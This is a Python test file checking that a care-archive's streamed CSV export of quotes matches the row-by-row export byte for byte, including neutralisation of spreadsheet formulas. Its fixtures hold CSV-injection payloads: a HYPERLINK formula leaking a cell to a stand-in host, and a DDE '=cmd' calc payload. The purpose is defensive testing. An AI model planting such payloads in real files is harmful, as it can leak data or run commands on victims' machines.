"""The quotes export streamed from SQL writes the very bytes of the row-by-row export.

``quote_batches`` (every cell computed by the database, read a batch at a time) is compared with
``quotes_table(archive.all_quotes(...))``, both through ``write_csv``: byte for byte, for many
filters, on the bundled dataset and on a synthetic archive whose names, titles, sources and
quotations start with what a spreadsheet would run as a formula, in SQLite and in PostgreSQL.
"""

from __future__ import annotations

import csv
import inspect
import io
import shutil
import sqlite3
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pg_server import Server
from sqlalchemy import event

from carebrowser.cli import main
from carebrowser.data.database import open_database
from carebrowser.data.publish import publish
from carebrowser.data.synth import Sizes, synthesize
from carebrowser.data.vocabulary import CATEGORIES
from carebrowser.export import (
    QUOTE_COLUMNS,
    CellBatches,
    Table,
    quote_batches,
    quotes_table,
    write_csv,
)
from carebrowser.export.writers import FORMULA_STARTS, Cancelled
from carebrowser.queries import Archive, Filters, QuoteRow, QuoteSort
from carebrowser.queries.export_rows import (
    QUOTE_CELL_COLUMNS,
    quote_cell_batches,
    quote_cells_select,
)

# -- the two paths ----------------------------------------------------------------------------


def _row_by_row(archive: Archive, filters: Filters) -> str:
    out = io.StringIO()
    write_csv(quotes_table(archive.all_quotes(filters)), out)
    return out.getvalue()


def _streamed(archive: Archive, filters: Filters) -> str:
    out = io.StringIO()
    write_csv(quote_batches(archive, filters), out)
    return out.getvalue()


def _filter_shapes(archive: Archive) -> list[Filters]:
    """Every kind of filter the command line and the window set, alone and combined."""
    speakers = [s for s in archive.all_stakeholders() if s.statement_count]
    speakers.sort(key=lambda s: (-s.statement_count, s.id))
    proposals = archive.proposals()
    sources = archive.sources()
    dates = sorted(s.date for s in sources)
    middle = dates[len(dates) // 2]
    one = frozenset
    shapes = [Filters()]
    shapes += [Filters(stakeholders=one({s.id})) for s in speakers[:12]]
    shapes.append(Filters(stakeholders=one(s.id for s in speakers[:3])))
    shapes += [Filters(categories=one({c})) for c in CATEGORIES]
    shapes.append(Filters(categories=one({"government", "local government"})))
    shapes += [Filters(proposals=one({p.id})) for p in proposals[:12]]
    shapes.append(Filters(proposals=one(p.id for p in proposals[:3])))
    shapes += [Filters(sources=one({s.id})) for s in sources[:6]]
    shapes.append(Filters(sources=one(s.id for s in sources[::2])))
    for search in ("care", "care trusts", "socia", "monolithic", "zzqx", '"', "=1+1", "  ", "é"):
        shapes.append(Filters(search=search))
    shapes += [
        Filters(date_from=middle),
        Filters(date_to=middle),
        Filters(date_from=dates[0], date_to=middle),
        Filters(date_from=middle, date_to=dates[0]),
        Filters(stakeholders=one({speakers[0].id}), date_from=middle),
        Filters(stakeholders=one({speakers[0].id}), proposals=one({proposals[0].id})),
        Filters(categories=one({speakers[0].category}), search="care", date_to=middle),
        Filters(sources=one(s.id for s in sources[:4]), stakeholders=one({speakers[1].id})),
        Filters(proposals=one({proposals[1].id}), search="the", date_from=dates[0]),
    ]
    return shapes


def _differences(archive: Archive) -> list[Filters]:
    return [f for f in _filter_shapes(archive) if _streamed(archive, f) != _row_by_row(archive, f)]


# -- the bundled dataset ----------------------------------------------------------------------


def test_the_cells_are_the_export_s_columns(any_archive: Archive) -> None:
    assert QUOTE_CELL_COLUMNS == QUOTE_COLUMNS
    query = quote_cells_select(any_archive, Filters(), FORMULA_STARTS)
    assert tuple(query.selected_columns.keys()) == QUOTE_COLUMNS


def test_the_bundled_dataset_gives_the_same_bytes(any_archive: Archive) -> None:
    everything = _streamed(any_archive, Filters())
    rows = list(csv.reader(io.StringIO(everything, newline="")))
    assert len(rows) > 100
    # The comparison means something: statements of several proposals, dates of each kind.
    assert any("; " in row[7] for row in rows[1:])
    assert {row[11].split()[0] for row in rows[1:]} >= {"c.", "on", "17", "Oct"}
    assert _differences(any_archive) == []


def _pages_in_order(archive: Archive, filters: Filters, sort: QuoteSort, descending: bool) -> str:
    """The row-by-row export of the window's statement panel: its pages, in its order."""

    def quotes() -> Iterator[QuoteRow]:
        after = None
        while True:
            page = archive.quotes(filters, sort=sort, descending=descending, after=after, limit=7)
            yield from page.rows
            if page.cursor is None:
                return
            after = page.cursor

    out = io.StringIO()
    write_csv(quotes_table(quotes()), out)
    return out.getvalue()


@pytest.mark.parametrize("descending", [False, True])
@pytest.mark.parametrize("sort", ["date", "source", "stakeholder"])
def test_every_sort_order_gives_the_bytes_of_the_pages(
    any_archive: Archive, sort: QuoteSort, descending: bool
) -> None:
    shapes = _filter_shapes(any_archive)[::3]  # a third of them, for each order
    assert Filters() in shapes
    differ = []
    for filters in shapes:
        out = io.StringIO()
        write_csv(quote_batches(any_archive, filters, sort=sort, descending=descending), out)
        if out.getvalue() != _pages_in_order(any_archive, filters, sort, descending):
            differ.append(filters)
    assert differ == []
    everything = io.StringIO()
    write_csv(quote_batches(any_archive, Filters(), sort=sort, descending=descending), everything)
    ordered = list(csv.reader(io.StringIO(everything.getvalue(), newline="")))[1:]
    assert len(ordered) > 100 and ordered != sorted(ordered)  # the order means something


@st.composite
def _any_filters(draw: st.DrawFn, archive: Archive) -> Filters:
    speakers = [s.id for s in archive.all_stakeholders()]
    proposals = [p.id for p in archive.proposals()]
    sources = archive.sources()
    dates = st.one_of(st.none(), st.sampled_from([s.date for s in sources]))
    words = st.sampled_from(["care", "trusts", "social", "serv", "the", "Milburn", "fines", ""])
    return Filters(
        stakeholders=frozenset(draw(st.lists(st.sampled_from(speakers), max_size=3))),
        categories=frozenset(draw(st.lists(st.sampled_from(CATEGORIES), max_size=2))),
        proposals=frozenset(draw(st.lists(st.sampled_from(proposals), max_size=2))),
        sources=frozenset(draw(st.lists(st.sampled_from([s.id for s in sources]), max_size=2))),
        date_from=draw(dates),
        date_to=draw(dates),
        search=" ".join(draw(st.lists(words, max_size=2))),
    )


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_any_filters_give_the_same_bytes(any_archive: Archive, data: st.DataObject) -> None:
    filters = data.draw(_any_filters(any_archive))
    assert _streamed(any_archive, filters) == _row_by_row(any_archive, filters)


def test_a_file_has_the_same_bytes_bom_and_crlf(archive: Archive, tmp_path: Path) -> None:
    old, new = tmp_path / "old.csv", tmp_path / "new.csv"
    assert write_csv(quotes_table(archive.all_quotes()), old) == write_csv(
        quote_batches(archive, Filters()), new
    )
    assert new.read_bytes() == old.read_bytes()
    assert new.read_bytes().startswith(b"\xef\xbb\xbfquote_id,stakeholder,")
    assert new.read_bytes().count(b"\r\n") >= new.read_bytes().count(b"\n") > 100
    assert sorted(p.name for p in tmp_path.iterdir()) == ["new.csv", "old.csv"]


# -- a synthetic archive with formula-like text -----------------------------------------------

#: Text a spreadsheet would run, one for each formula start, with CSV's own special characters.
FORMULAS = {
    "name": '=HYPERLINK("http://example.invalid/?leak="&A1,"report")',
    "role": "+44 20 7946 0000, switchboard",
    "organisation": '-2 "quoted", and more',
    "title 1": "=1+1; a title",
    "title 2": "@SUM(A1:A2)",
    "title 3": "\tTabbed, title",
    "publication": "+Publication, Inc.",
    "author 1": "@author",
    "author 2": "\r\nCRLF author",
}


def _formula_like(path: Path) -> None:
    """Put formula-like text into every text column of the export, within the schema's rules."""
    with sqlite3.connect(path) as db:
        person, organisation = db.execute(
            "SELECT s.id, s.organisation_id FROM stakeholder s WHERE s.organisation_id IS NOT NULL"
            " AND EXISTS (SELECT 1 FROM statement WHERE speaker_id = s.id) ORDER BY s.id"
        ).fetchone()
        db.execute(
            "UPDATE stakeholder SET name = ?, role = ? WHERE id = ?",
            (FORMULAS["name"], FORMULAS["role"], person),
        )
        # Exports give the role as each statement's source prints it.
        db.execute("UPDATE statement SET role = ? WHERE speaker_id = ?", (FORMULAS["role"], person))
        db.execute(
            "UPDATE stakeholder SET name = ? WHERE id = ?", (FORMULAS["organisation"], organisation)
        )
        db.execute("UPDATE stakeholder SET role = '' WHERE id = (SELECT max(id) FROM stakeholder)")
        proposals = [row[0] for row in db.execute("SELECT id FROM proposal ORDER BY id")]
        for proposal, key in zip(proposals, ("title 1", "title 2", "title 3"), strict=False):
            db.execute("UPDATE proposal SET title = ? WHERE id = ?", (FORMULAS[key], proposal))
        statements = [row[0] for row in db.execute("SELECT id FROM statement ORDER BY id")]
        for statement in statements[:40:7]:
            db.executemany(
                "INSERT OR IGNORE INTO statement_proposal VALUES (?, ?)",
                [(statement, p) for p in proposals[:3]],
            )
        for statement, start in zip(statements[100:], FORMULA_STARTS, strict=False):
            db.execute(
                "UPDATE statement SET text = ? || substr(text, 2) WHERE id = ?", (start, statement)
            )
        db.execute(
            f"UPDATE statement SET text = replace(text, ' ', '\"') WHERE id = {statements[120]}"
        )
        db.execute(
            f"UPDATE statement SET text = replace(text, ' ', char(13)) WHERE id = {statements[121]}"
        )
        db.execute(f"UPDATE statement SET truncated = 1 WHERE id IN {tuple(statements[130:140])}")
        sources = [row[0] for row in db.execute("SELECT id FROM source ORDER BY id")]
        # The source's name starts with its publication, and is neutralised as it is.
        db.execute(
            "UPDATE source SET key = '=source-1', publication = ?, author = ? WHERE id = ?",
            (FORMULAS["publication"], FORMULAS["author 1"], sources[0]),
        )
        # Named by its headline alone; and, with no headline, by its publication and date.
        db.execute(
            "UPDATE source SET publication = 'Unnamed publication', headline = '=1 in 3' "
            f"WHERE id = {sources[3]}"
        )
        db.execute(f"UPDATE source SET headline = NULL WHERE id = {sources[4]}")
        db.execute(f"UPDATE source SET headline = '' WHERE id = {sources[5]}")
        db.execute("UPDATE source SET author = ? WHERE id = ?", (FORMULAS["author 2"], sources[1]))
        # An early year, which SQLite holds as '0999-...' and which is shown as 999.
        db.execute(f"UPDATE source SET date = '0999-03-07' WHERE id = {sources[2]}")
        db.execute(f"UPDATE statement SET sort_date = '0999-03-07' WHERE source_id = {sources[2]}")
        db.execute("INSERT INTO statement_fts(statement_fts) VALUES ('rebuild')")


def _damaged(path: Path) -> None:
    """Values that break the schema's rules, as a damaged or hand-edited file may hold."""
    with sqlite3.connect(path) as db:
        db.execute("PRAGMA ignore_check_constraints = ON")
        statements = [row[0] for row in db.execute("SELECT id FROM statement ORDER BY id")]
        kinds = ("=cmd|' /C calc'!A0", "unknown", "")
        for statement, kind in zip(statements[200:203], kinds, strict=True):
            db.execute("UPDATE statement SET kind = ? WHERE id = ?", (kind, statement))
        db.execute(
            f"UPDATE statement SET kind = 'gossip', truncated = 2 WHERE id = {statements[203]}"
        )
        db.execute(f"UPDATE statement SET text = '', \"end\" = start WHERE id = {statements[204]}")
        db.execute(
            "UPDATE stakeholder SET category = '@category' WHERE id = "
            "(SELECT speaker_id FROM statement ORDER BY id LIMIT 1)"
        )
        db.execute(
            "UPDATE source SET date_precision = 'decade' WHERE id = (SELECT max(id) FROM source)"
        )


@pytest.fixture(scope="module")
def synthetic(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """2,000 statements (as `carebrowser synth --quotes 2000` writes) with formula-like text."""
    path = synthesize(
        tmp_path_factory.mktemp("formulas") / "formulas.sqlite", Sizes.for_quotes(2000), seed=3
    )
    _formula_like(path)
    return path


@pytest.fixture(scope="module")
def damaged(synthetic: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("damaged") / "damaged.sqlite"
    shutil.copyfile(synthetic, path)
    _damaged(path)
    return path


@pytest.fixture(scope="module")
def pg_synthetic(pg_server: Server, synthetic: Path) -> str:
    url = pg_server.create_database("carebrowser_formulas")
    publish(url, synthetic)
    return url


@pytest.fixture(scope="module", params=["sqlite", "sqlite, damaged", "postgresql"])
def formula_archive(request: pytest.FixtureRequest) -> Iterator[Archive]:
    """The synthetic archive with formula-like text: in SQLite, damaged too, and in PostgreSQL."""
    target = {
        "sqlite": "synthetic",
        "sqlite, damaged": "damaged",
        "postgresql": "pg_synthetic",
    }[request.param]
    engine, _info = open_database(request.getfixturevalue(target))
    yield Archive(engine)
    engine.dispose()


def test_formula_like_text_gives_the_same_bytes(formula_archive: Archive) -> None:
    everything = _row_by_row(formula_archive, Filters())
    # Each injected value is there, neutralised: the comparison covers every formula start.
    cells = {cell for row in csv.reader(io.StringIO(everything, newline="")) for cell in row}
    for value in FORMULAS.values():
        assert any(cell.startswith("'" + value) for cell in cells), value
    for start in FORMULA_STARTS:
        assert any(cell.startswith("'" + start) for cell in cells), start
    # An unnamed publication's source is named by its headline (which starts no formula).
    assert any(cell.startswith("\u2018=1 in 3\u2019, ") for cell in cells)
    assert _streamed(formula_archive, Filters()) == everything
    assert _differences(formula_archive) == []


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_any_filters_on_formula_like_text_give_the_same_bytes(
    formula_archive: Archive, data: st.DataObject
) -> None:
    filters = data.draw(_any_filters(formula_archive))
    assert _streamed(formula_archive, filters) == _row_by_row(formula_archive, filters)


def test_damaged_values_are_shown_as_the_row_by_row_export_shows_them(damaged: Path) -> None:
    engine, _info = open_database(damaged)
    try:
        text = _streamed(Archive(engine), Filters())
    finally:
        engine.dispose()
    assert "'=cmd|' /C calc'!A0" in text and "gossip, truncated" in text
    assert "'@category" in text and "c. " in text


def test_many_matches_read_in_date_order_give_the_same_bytes(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    """Past 3,000 matches SQLite reads along the date index (as the pages did): same bytes."""
    path = synthesize(tmp_path_factory.mktemp("many") / "many.sqlite", Sizes.for_quotes(8000), 5)
    engine, _info = open_database(path)
    try:
        archive = Archive(engine)
        dates = sorted(source.date for source in archive.sources())
        many = [
            Filters(search="the"),
            Filters(proposals=frozenset(p.id for p in archive.proposals()[:10])),
            Filters(categories=frozenset(CATEGORIES[:-1])),
            Filters(search="the", date_from=dates[len(dates) // 5]),
        ]
        for filters in many:
            assert archive._read_in_order(filters, "date"), filters
            assert _streamed(archive, filters) == _row_by_row(archive, filters), filters
    finally:
        engine.dispose()


# -- the command line -------------------------------------------------------------------------

COMMANDS: list[tuple[list[str], Callable[[Archive], Filters]]] = [
    ([], lambda _a: Filters()),
    (["--search", "care"], lambda _a: Filters(search="care")),
    (
        ["--category", "government", "--category", "PRESS"],
        lambda _a: Filters(categories=frozenset({"government", "press"})),
    ),
    (["--proposal", "@sum(a1:a2)"], lambda a: Filters(proposals=a.find_proposals(["@SUM(A1:A2)"]))),
    (["--source", "=source-1"], lambda a: Filters(sources=a.find_sources(["=source-1"]))),
    (["--search", "zzqx"], lambda _a: Filters(search="zzqx")),
]


@pytest.mark.parametrize(("options", "filters"), COMMANDS, ids=[" ".join(c[0]) for c in COMMANDS])
def test_the_command_line_prints_what_it_printed(
    damaged: Path,
    capsys: pytest.CaptureFixture[str],
    options: list[str],
    filters: Callable[[Archive], Filters],
) -> None:
    engine, _info = open_database(damaged)
    try:
        archive = Archive(engine)
        expected = _row_by_row(archive, filters(archive))
    finally:
        engine.dispose()
    assert expected.count("\r\n") > 1 or options == ["--search", "zzqx"]
    assert main(["--db", str(damaged), "export", "quotes", *options]) == 0
    assert capsys.readouterr() == (expected, "")


def test_the_command_line_writes_the_same_file(
    damaged: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "quotes.csv"
    assert main(["--db", str(damaged), "export", "quotes", "-o", str(target)]) == 0
    engine, _info = open_database(damaged)
    try:
        write_csv(quotes_table(Archive(engine).all_quotes()), tmp_path / "old.csv")
    finally:
        engine.dispose()
    assert target.read_bytes() == (tmp_path / "old.csv").read_bytes()
    assert capsys.readouterr() == ("", "")


# -- writing ready cells: progress, cancel, failures ------------------------------------------

_CELL = st.one_of(
    st.text(alphabet=st.characters(), max_size=12).filter(
        lambda t: not t.startswith(FORMULA_STARTS)
    ),
    st.text(alphabet=',"\r\n x\x00é', max_size=6).filter(
        lambda t: not t.startswith(FORMULA_STARTS)
    ),
    st.integers(),
    st.floats(),
    st.none(),
)


@settings(max_examples=300, deadline=None)
@given(
    rows=st.integers(1, 5).flatmap(
        lambda width: st.lists(st.lists(_CELL, min_size=width, max_size=width))
    ),
    cut=st.integers(1, 7),
)
def test_ready_cells_are_written_as_the_csv_module_writes_them(
    rows: list[list[object]], cut: int
) -> None:
    header = tuple(f"c{i}" for i in range(len(rows[0]))) if rows else ("c0", "c1")
    batches = [rows[i : i + cut] for i in range(0, len(rows), cut)]
    old, new = io.StringIO(), io.StringIO()
    write_csv(Table(header, rows), old)
    write_csv(CellBatches(header, batches), new)
    assert new.getvalue() == old.getvalue()


def _rows(count: int) -> list[tuple[str, int]]:
    return [(f"q-{i}", i) for i in range(count)]


def _batches(rows: Sequence[tuple[str, int]], sizes: Sequence[int]) -> list[list[tuple[str, int]]]:
    batches, at = [], 0
    for size in sizes:
        batches.append(list(rows[at : at + size]))
        at += size
    return [*batches, list(rows[at:])]


class _Progress:
    """A progress callback that notes the counts it is given and never cancels."""

    def __init__(self) -> None:
        self.counts: list[int] = []

    def __call__(self, done: int) -> bool:
        self.counts.append(done)
        return True


@pytest.mark.parametrize("count", [0, 499, 500, 1234, 3001])
def test_progress_is_asked_at_the_same_rows(tmp_path: Path, count: int) -> None:
    rows = _rows(count)
    table, batches = _Progress(), _Progress()
    header = ("quote_id", "start")
    assert write_csv(Table(header, rows), tmp_path / "table.csv", progress=table) == count
    cells = CellBatches(header, _batches(rows, [77, 1000, 0, 423, 5]))
    assert write_csv(cells, tmp_path / "batches.csv", progress=batches) == count
    assert batches.counts == table.counts
    assert (tmp_path / "batches.csv").read_bytes() == (tmp_path / "table.csv").read_bytes()


@pytest.mark.parametrize("stop_at", [500, 1500, 3001])
def test_a_cancelled_stream_leaves_nothing_and_lets_go_of_its_rows(
    tmp_path: Path, stop_at: int
) -> None:
    target = tmp_path / "quotes.csv"
    target.write_bytes(b"before")
    closed = []

    def batches() -> Iterator[list[tuple[str, int]]]:
        try:
            yield from _batches(_rows(3001), [700, 700, 700])
        finally:
            closed.append(True)

    with pytest.raises(Cancelled):
        write_csv(
            CellBatches(("quote_id", "start"), batches()),
            target,
            progress=lambda done: done < stop_at,
        )
    assert closed == [True]
    assert target.read_bytes() == b"before"
    assert [p.name for p in tmp_path.iterdir()] == ["quotes.csv"]


def test_a_database_failure_mid_stream_leaves_nothing(tmp_path: Path) -> None:
    target = tmp_path / "quotes.csv"

    def batches() -> Iterator[list[tuple[str, int]]]:
        yield _rows(600)
        raise sqlite3.DatabaseError("database disk image is malformed")

    with pytest.raises(sqlite3.DatabaseError):
        write_csv(CellBatches(("quote_id", "start"), batches()), target)
    assert list(tmp_path.iterdir()) == []


def test_a_stopped_export_gives_back_its_connection(synthetic: Path, tmp_path: Path) -> None:
    engine, _info = open_database(synthetic)
    taken: list[str] = []
    event.listen(engine, "checkout", lambda *_args: taken.append("out"))
    event.listen(engine, "checkin", lambda *_args: taken.append("in"))
    try:
        batches = quote_cell_batches(Archive(engine), Filters(), FORMULA_STARTS, batch_rows=100)
        with pytest.raises(Cancelled):
            write_csv(
                CellBatches(QUOTE_COLUMNS, batches),
                tmp_path / "quotes.csv",
                progress=lambda done: done < 500,
            )
        assert inspect.getgeneratorstate(batches) == inspect.GEN_CLOSED  # type: ignore[arg-type]
        assert taken == ["out", "in"]
    finally:
        engine.dispose()
    assert list(tmp_path.iterdir()) == []
